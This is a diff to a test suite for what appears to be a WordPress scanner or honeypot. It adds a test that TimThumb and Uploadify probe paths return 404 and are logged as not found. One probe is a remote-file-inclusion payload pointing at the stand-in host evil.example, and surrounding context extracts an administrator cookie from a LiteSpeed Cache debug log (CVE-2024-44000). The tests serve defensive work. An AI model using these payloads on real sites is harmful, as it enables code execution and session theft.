@@ -109,6 +109,15 @@ describe('what a scanner of WordPress looks at', () => {
     expect(looks).toHaveLength(copies.length)
   })
 
+  it('scripts that resize pictures are not there; what they should have fetched is written down', async () => {
+    for (const path of ['/wp-content/themes/x/timthumb.php?src=http://evil.example/a.php', '/wp-content/plugins/y/uploadify/uploadify.php'])
+      expect((await get(path)).status).toBe(404)
+    expect(p.data<{ kind: string; name: string }>('wordpress.probe').filter(({ kind }) => kind === 'timthumb')).toMatchObject([
+      { name: '/wp-content/themes/x/timthumb.php?src=http://evil.example/a.php', found: false },
+      { found: false },
+    ])
+  })
+
   it("the log of LiteSpeed Cache, with the administrator's cookies (CVE-2024-44000)", async () => {
     const log = await get('/wp-content/debug.log')
     const [, cookie = ''] = /Set-Cookie: (wordpress_logged_in_[^;]+)/.exec(log.body) ?? []
